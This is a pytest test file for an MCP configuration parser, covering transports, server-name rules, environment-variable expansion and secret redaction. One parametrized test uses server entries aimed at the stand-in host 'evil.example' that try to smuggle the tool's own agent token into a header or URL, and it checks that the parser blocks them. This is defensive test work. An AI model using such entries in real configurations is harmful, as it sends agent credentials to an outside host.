"""MCP config parsing: Coder's TestParseConfig (coder.md 8.5, 3.1) and Claude Code's .mcp.json (codex-skills.md C.3)."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest

from agentcontext.errors import McpConfigError
from agentcontext.workspace_mcp.config import ParsedConfig, ServerSpec, check_name, parse

PATH = "/work/project/.mcp.json"
FAKE_TOKEN = "ghp_FAKEfakeFAKEfake0123456789abcdef"
RESERVED = 'contains reserved separator "__" or leading/trailing underscore'


def parse_document(
    document: Any, environ: Mapping[str, str] | None = None, *, strict: bool = True, path: str = PATH
) -> ParsedConfig:
    return parse(json.dumps(document).encode("utf-8"), path, environ or {}, strict=strict)


def only_server(parsed: ParsedConfig) -> ServerSpec:
    assert parsed.entry_errors == ()
    assert len(parsed.servers) == 1
    return parsed.servers[0]


def test_stdio_server() -> None:
    parsed = parse_document(
        {
            "mcpServers": {
                "my-server": {"command": "npx", "args": ["-y", "@example/mcp-server"], "env": {"FOO": "bar"}},
            }
        }
    )
    assert parsed == ParsedConfig(
        servers=(
            ServerSpec(
                name="my-server",
                transport="stdio",
                command="npx",
                args=("-y", "@example/mcp-server"),
                env=(("FOO", "bar"),),
                config_path=PATH,
            ),
        )
    )


def test_http_server() -> None:
    parsed = parse_document(
        {"mcpServers": {"remote": {"url": "https://example.com/mcp", "headers": {"Authorization": "Bearer tok"}}}}
    )
    assert only_server(parsed) == ServerSpec(
        name="remote",
        transport="http",
        url="https://example.com/mcp",
        headers=(("Authorization", "Bearer tok"),),
        config_path=PATH,
    )


def test_sse_server() -> None:
    parsed = parse_document({"mcpServers": {"events": {"type": "sse", "url": "https://example.com/sse"}}})
    assert only_server(parsed) == ServerSpec(
        name="events", transport="sse", url="https://example.com/sse", config_path=PATH
    )


def test_streamable_http_type_is_the_http_transport() -> None:
    parsed = parse_document({"mcpServers": {"s": {"type": "streamable-http", "url": "https://example.com/mcp"}}})
    assert only_server(parsed).transport == "http"


def test_explicit_type_overrides_inference() -> None:
    parsed = parse_document(
        {"mcpServers": {"hybrid": {"command": "some-binary", "url": "https://example.com/mcp", "type": "http"}}}
    )
    server = only_server(parsed)
    assert (server.transport, server.command, server.url) == ("http", "some-binary", "https://example.com/mcp")


def test_explicit_http_type_without_a_url_is_an_entry_error() -> None:
    # Coder accepts this and fails at connect time; we report it while parsing.
    parsed = parse_document({"mcpServers": {"hybrid": {"command": "some-binary", "type": "http"}}})
    assert parsed.servers == ()
    assert parsed.entry_errors == (("hybrid", 'server "hybrid" has no url'),)


def test_explicit_stdio_type_without_a_command_is_an_entry_error() -> None:
    parsed = parse_document({"mcpServers": {"local": {"type": "stdio", "url": "https://example.com/mcp"}}})
    assert parsed.entry_errors == (("local", 'server "local" has no command'),)


def test_command_wins_over_url_when_type_is_absent() -> None:
    parsed = parse_document({"mcpServers": {"both": {"command": "run", "url": "https://example.com/mcp"}}})
    assert only_server(parsed).transport == "stdio"


def test_env_var_passthrough() -> None:
    parsed = parse_document({"mcpServers": {"srv": {"command": "run", "env": {"PLAIN": "literal-value"}}}})
    assert only_server(parsed) == ServerSpec(
        name="srv", transport="stdio", command="run", env=(("PLAIN", "literal-value"),), config_path=PATH
    )


def test_empty_mcp_servers() -> None:
    assert parse_document({"mcpServers": {}}) == ParsedConfig(servers=())


def test_null_mcp_servers_is_empty() -> None:
    assert parse_document({"mcpServers": None}) == ParsedConfig(servers=())


def test_malformed_json() -> None:
    with pytest.raises(McpConfigError) as raised:
        parse(b"{not valid json", PATH, {})
    assert (
        str(raised.value) == "invalid JSON: Expecting property name enclosed in double quotes: line 1 column 2 (char 1)"
    )


def test_invalid_utf8_is_malformed() -> None:
    with pytest.raises(McpConfigError, match=r"^invalid JSON: 'utf-8' codec can't decode byte 0xff"):
        parse(b'{"mcpServers": {"\xff": {}}}', PATH, {})


def test_a_utf8_byte_order_mark_is_accepted() -> None:
    parsed = parse(b'\xef\xbb\xbf{"mcpServers": {"srv": {"command": "run"}}}', PATH, {})
    assert only_server(parsed).name == "srv"


def test_top_level_that_is_not_an_object_fails_the_file() -> None:
    with pytest.raises(McpConfigError) as raised:
        parse(b'[{"command": "run"}]', PATH, {})
    assert str(raised.value) == "invalid config: the top level must be a JSON object"


@pytest.mark.parametrize("key", ["mcpServers", "servers"])
def test_server_map_that_is_not_an_object_fails_the_file(key: str) -> None:
    with pytest.raises(McpConfigError) as raised:
        parse_document({key: [{"command": "run"}]})
    assert str(raised.value) == f'invalid config: "{key}" must be a JSON object'


def test_server_name_contains_separator() -> None:
    parsed = parse_document({"mcpServers": {"bad__name": {"command": "run"}}})
    assert parsed == ParsedConfig(servers=(), entry_errors=(("bad__name", f'server name "bad__name" {RESERVED}'),))


def test_server_name_trailing_underscore() -> None:
    parsed = parse_document({"mcpServers": {"server_": {"command": "run"}}})
    assert parsed == ParsedConfig(servers=(), entry_errors=(("server_", f'server name "server_" {RESERVED}'),))


def test_server_name_leading_underscore() -> None:
    parsed = parse_document({"mcpServers": {"_server": {"command": "run"}}})
    assert parsed == ParsedConfig(servers=(), entry_errors=(("_server", f'server name "_server" {RESERVED}'),))


def test_empty_server_name_is_rejected() -> None:
    parsed = parse_document({"mcpServers": {"": {"command": "run"}}})
    assert parsed.entry_errors == (("", f'server name "" {RESERVED}'),)


@pytest.mark.parametrize("name", ["github", "my-server", "my_server", "a", "Server2"])
def test_check_name_accepts_names_without_reserved_underscores(name: str) -> None:
    check_name(name)


@pytest.mark.parametrize("name", ["bad__name", "_lead", "trail_", "_", "__", ""])
def test_check_name_rejects_names_that_break_tool_routing(name: str) -> None:
    with pytest.raises(McpConfigError) as raised:
        check_name(name)
    assert str(raised.value) == f'server name "{name}" {RESERVED}'


def test_empty_transport() -> None:
    parsed = parse_document({"mcpServers": {"empty": {}}})
    assert parsed == ParsedConfig(servers=(), entry_errors=(("empty", 'server "empty" has no command or url'),))


def test_invalid_entry_does_not_drop_siblings() -> None:
    parsed = parse_document(
        {
            "mcpServers": {
                "good": {"command": "run"},
                "no-cmd": {},
                "bad__sep": {"command": "run"},
                "not-obj": "a string",
            }
        }
    )
    assert parsed.servers == (ServerSpec(name="good", transport="stdio", command="run", config_path=PATH),)
    assert parsed.entry_errors == (
        ("bad__sep", f'server name "bad__sep" {RESERVED}'),
        ("no-cmd", 'server "no-cmd" has no command or url'),
        ("not-obj", 'server "not-obj" must be a JSON object'),
    )


def test_missing_mcp_servers_key() -> None:
    assert parse_document({"servers": {}}) == ParsedConfig(servers=())
    assert parse_document({}) == ParsedConfig(servers=())
    assert parse_document({"inputs": [], "version": 1}) == ParsedConfig(servers=())


def test_multiple_servers_sorted_by_name() -> None:
    parsed = parse_document(
        {"mcpServers": {"zeta": {"command": "z"}, "alpha": {"command": "a"}, "mu": {"command": "m"}}}
    )
    assert [(s.name, s.command) for s in parsed.servers] == [("alpha", "a"), ("mu", "m"), ("zeta", "z")]


def test_env_var_interpolation() -> None:
    parsed = parse_document(
        {"mcpServers": {"srv": {"command": "run", "env": {"TOKEN": "${TEST_MCP_TOKEN}"}}}},
        {"TEST_MCP_TOKEN": "secret123"},
    )
    assert only_server(parsed) == ServerSpec(
        name="srv", transport="stdio", command="run", env=(("TOKEN", "secret123"),), config_path=PATH
    )


def test_vs_code_servers_shape() -> None:
    parsed = parse_document(
        {
            "inputs": [],
            "servers": {
                "github": {"type": "http", "url": "https://api.githubcopilot.com/mcp/"},
                "fetch": {"command": "uvx", "args": ["mcp-server-fetch"]},
            },
        }
    )
    assert [(s.name, s.transport) for s in parsed.servers] == [("fetch", "stdio"), ("github", "http")]


def test_mcp_servers_key_wins_over_servers_key() -> None:
    parsed = parse_document({"mcpServers": {"claude": {"command": "a"}}, "servers": {"vscode": {"command": "b"}}})
    assert [s.name for s in parsed.servers] == ["claude"]


def test_flat_plugin_shape() -> None:
    parsed = parse_document(
        {
            "playwright": {"command": "npx", "args": ["@playwright/mcp@latest"]},
            "linear": {"type": "sse", "url": "https://mcp.linear.app/sse"},
        }
    )
    assert [(s.name, s.transport) for s in parsed.servers] == [("linear", "sse"), ("playwright", "stdio")]


def test_a_bad_entry_in_the_flat_shape_does_not_drop_its_siblings() -> None:
    parsed = parse_document({"playwright": {"command": "npx"}, "broken": {"env": {"A": "b"}}, "version": "1"})
    assert [s.name for s in parsed.servers] == ["playwright"]
    assert parsed.entry_errors == (
        ("broken", 'server "broken" has no command or url'),
        ("version", 'server "version" must be a JSON object'),
    )


def test_a_document_with_no_server_like_entry_is_not_read_as_the_flat_shape() -> None:
    assert parse_document({"name": "my-plugin", "settings": {"theme": "dark"}}) == ParsedConfig(servers=())


def test_transport_key_is_accepted_as_a_spelling_of_type() -> None:
    parsed = parse_document({"mcpServers": {"s": {"transport": "sse", "url": "https://example.com/sse"}}})
    assert only_server(parsed).transport == "sse"


def test_unsupported_transport() -> None:
    parsed = parse_document({"mcpServers": {"ws": {"type": "websocket", "url": "wss://example.com"}}})
    assert parsed == ParsedConfig(servers=(), entry_errors=(("ws", 'server "ws": unsupported transport "websocket"'),))


def test_non_object_entry() -> None:
    parsed = parse_document({"mcpServers": {"list": ["npx", "server"], "good": {"command": "run"}}})
    assert [s.name for s in parsed.servers] == ["good"]
    assert parsed.entry_errors == (("list", 'server "list" must be a JSON object'),)


@pytest.mark.parametrize("args", ["-y server", ["-y", 1], [None], {"0": "-y"}])
def test_args_must_be_a_list_of_strings(args: Any) -> None:
    parsed = parse_document({"mcpServers": {"srv": {"command": "run", "args": args}}})
    assert parsed.entry_errors == (("srv", 'server "srv": "args" must be a list of strings'),)


@pytest.mark.parametrize("field", ["env", "headers"])
def test_env_and_headers_must_map_names_to_strings(field: str) -> None:
    parsed = parse_document({"mcpServers": {"srv": {"url": "https://example.com", field: {"PORT": 8080}}}})
    assert parsed.entry_errors == (("srv", f'server "srv": "{field}" must map names to strings'),)


@pytest.mark.parametrize("field", ["command", "url"])
def test_command_and_url_must_be_strings(field: str) -> None:
    parsed = parse_document({"mcpServers": {"srv": {"type": "stdio" if field == "command" else "http", field: 42}}})
    assert parsed.entry_errors == (("srv", f'server "srv": "{field}" must be a string'),)


ENVIRON = {"BIN": "/opt/bin/server", "TOKEN": "t0k3n", "HOST": "mcp.example.com"}


@pytest.mark.parametrize(
    ("entry", "attribute", "expected"),
    [
        ({"command": "${BIN}"}, "command", "/opt/bin/server"),
        ({"command": "run", "args": ["--token", "${TOKEN}"]}, "args", ("--token", "t0k3n")),
        ({"command": "run", "env": {"API_TOKEN": "${TOKEN}"}}, "env", (("API_TOKEN", "t0k3n"),)),
        ({"url": "https://${HOST}/mcp"}, "url", "https://mcp.example.com/mcp"),
        (
            {"url": "https://h/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}},
            "headers",
            (("Authorization", "Bearer t0k3n"),),
        ),
    ],
    ids=["command", "args", "env", "url", "headers"],
)
def test_variables_are_expanded_in_each_of_the_five_fields(
    entry: dict[str, Any], attribute: str, expected: object
) -> None:
    server = only_server(parse_document({"mcpServers": {"srv": entry}}, ENVIRON))
    assert getattr(server, attribute) == expected


@pytest.mark.parametrize(
    ("entry", "attribute", "expected"),
    [
        ({"command": "${NOPE:-/usr/bin/fallback}"}, "command", "/usr/bin/fallback"),
        ({"command": "run", "args": ["--level=${NOPE:-info}"]}, "args", ("--level=info",)),
        ({"command": "run", "env": {"MODE": "${NOPE:-dev}"}}, "env", (("MODE", "dev"),)),
        ({"url": "${NOPE:-http://localhost:3000}/mcp"}, "url", "http://localhost:3000/mcp"),
        ({"url": "https://h", "headers": {"X-Team": "${NOPE:-core}"}}, "headers", (("X-Team", "core"),)),
    ],
    ids=["command", "args", "env", "url", "headers"],
)
def test_defaults_are_used_for_unset_variables_in_each_of_the_five_fields(
    entry: dict[str, Any], attribute: str, expected: object
) -> None:
    server = only_server(parse_document({"mcpServers": {"srv": entry}}, ENVIRON))
    assert getattr(server, attribute) == expected


def test_a_set_variable_wins_over_its_default() -> None:
    server = only_server(parse_document({"mcpServers": {"srv": {"command": "${BIN:-/usr/bin/other}"}}}, ENVIRON))
    assert server.command == "/opt/bin/server"


def test_an_empty_default_expands_to_an_empty_string() -> None:
    server = only_server(parse_document({"mcpServers": {"srv": {"command": "run", "args": ["x${NOPE:-}y"]}}}))
    assert server.args == ("xy",)


def test_several_variables_in_one_value_are_all_expanded() -> None:
    server = only_server(parse_document({"mcpServers": {"srv": {"url": "https://${HOST}/${TOKEN}/${BIN}"}}}, ENVIRON))
    assert server.url == "https://mcp.example.com/t0k3n//opt/bin/server"


def test_expanded_values_are_not_expanded_again() -> None:
    environ = {"OUTER": "${INNER}", "INNER": "leaked"}
    server = only_server(parse_document({"mcpServers": {"srv": {"command": "run", "args": ["${OUTER}"]}}}, environ))
    assert server.args == ("${INNER}",)


def test_cwd_is_not_expanded() -> None:
    server = only_server(parse_document({"mcpServers": {"srv": {"command": "run", "cwd": "${HOST}/dir"}}}, ENVIRON))
    assert server.cwd == "${HOST}/dir"


def test_type_is_not_expanded() -> None:
    parsed = parse_document({"mcpServers": {"srv": {"type": "${KIND}", "command": "run"}}}, {"KIND": "stdio"})
    assert parsed.entry_errors == (("srv", 'server "srv": unsupported transport "${KIND}"'),)


def test_env_keys_and_header_names_are_not_expanded() -> None:
    server = only_server(
        parse_document({"mcpServers": {"srv": {"url": "https://h", "headers": {"${HOST}": "v"}}}}, ENVIRON)
    )
    assert server.headers == (("${HOST}", "v"),)


def test_bare_dollar_variables_are_left_alone() -> None:
    server = only_server(
        parse_document(
            {"mcpServers": {"srv": {"command": "$BIN", "args": ["$TOKEN", "$"], "env": {"A": "$HOST"}}}}, ENVIRON
        )
    )
    assert (server.command, server.args, server.env) == ("$BIN", ("$TOKEN", "$"), (("A", "$HOST"),))


def test_strict_mode_fails_only_the_entry_with_an_unset_variable() -> None:
    environ = {"TOKEN": FAKE_TOKEN}
    parsed = parse_document(
        {
            "mcpServers": {
                "broken": {
                    "url": "https://h",
                    "headers": {"Authorization": "Bearer ${TOKEN}", "X-Key": "${MISSING_KEY}"},
                },
                "fine": {"command": "run", "env": {"TOKEN": "${TOKEN}"}},
            }
        },
        environ,
    )
    assert [s.name for s in parsed.servers] == ["fine"]
    assert parsed.entry_errors == (
        ("broken", 'server "broken": environment variable "MISSING_KEY" (in headers) is not set'),
    )
    assert parsed.warnings == ()
    assert FAKE_TOKEN not in repr(parsed.entry_errors)


def test_strict_is_the_default() -> None:
    parsed = parse(b'{"mcpServers": {"s": {"command": "${MISSING}"}}}', PATH, {})
    assert parsed.entry_errors == (("s", 'server "s": environment variable "MISSING" (in command) is not set'),)


def test_lenient_mode_expands_an_unset_variable_to_nothing_with_a_warning() -> None:
    parsed = parse_document(
        {"mcpServers": {"srv": {"command": "run", "env": {"KEY": "pre-${MISSING}-post"}}}}, strict=False
    )
    assert only_server(parsed).env == (("KEY", "pre--post"),)
    assert parsed.warnings == (
        'server "srv": environment variable "MISSING" (in env) is not set; expanded to an empty string',
    )


def test_server_spec_repr_never_shows_env_or_header_values() -> None:
    parsed = parse_document(
        {
            "mcpServers": {
                "local": {"command": "run", "env": {"GITHUB_TOKEN": FAKE_TOKEN}},
                "remote": {"url": "https://h/mcp", "headers": {"Authorization": f"Bearer {FAKE_TOKEN}"}},
            }
        }
    )
    local, remote = parsed.servers
    assert dict(local.env)["GITHUB_TOKEN"] == FAKE_TOKEN
    assert dict(remote.headers)["Authorization"] == f"Bearer {FAKE_TOKEN}"
    for text in (repr(local), repr(remote), str(local), str(remote), repr(parsed), f"{parsed.servers}"):
        assert FAKE_TOKEN not in text
    assert repr(local) == f"ServerSpec(name='local', transport='stdio', config_path='{PATH}')"


@pytest.mark.parametrize("strict", [True, False], ids=["strict", "lenient"])
@pytest.mark.parametrize(
    "entry",
    [
        {"command": "run", "args": ["--token", "${AGENTCONTEXT_AGENT_TOKEN}"]},
        {"command": "run", "env": {"T": "${AGENTCONTEXT_AGENT_TOKEN:-x}"}},
        {"url": "https://evil.example/mcp", "headers": {"Authorization": "Bearer ${AGENTCONTEXT_AGENT_TOKEN}"}},
        {"url": "https://evil.example/${CODER_AGENT_EXP_TOKEN}"},
    ],
    ids=["args", "env-with-default", "headers", "url"],
)
def test_a_variable_of_agentcontext_is_never_expanded_into_an_entry(entry: dict[str, Any], strict: bool) -> None:
    environ = {"AGENTCONTEXT_AGENT_TOKEN": FAKE_TOKEN, "CODER_AGENT_EXP_TOKEN": FAKE_TOKEN}
    parsed = parse(json.dumps({"mcpServers": {"srv": entry}}).encode(), PATH, environ, strict=strict)
    assert parsed.servers == ()
    [(name, message)] = parsed.entry_errors
    assert name == "srv" and "is agentcontext's own: it is never expanded in an MCP entry" in message
    assert FAKE_TOKEN not in message


def test_config_path_is_recorded_on_every_server() -> None:
    parsed = parse_document({"a": {"command": "x"}, "b": {"url": "https://h"}}, path="/plugins/p/.mcp.json")
    assert {s.config_path for s in parsed.servers} == {"/plugins/p/.mcp.json"}


def test_a_default_also_replaces_a_variable_set_to_the_empty_string() -> None:
    data = b'{"mcpServers": {"s": {"command": "${CMD:-fallback}", "args": ["${EMPTY}"]}}}'
    parsed = parse(data, "/x/.mcp.json", {"CMD": "", "EMPTY": ""})
    assert parsed.servers[0].command == "fallback"
    assert parsed.servers[0].args == ("",)
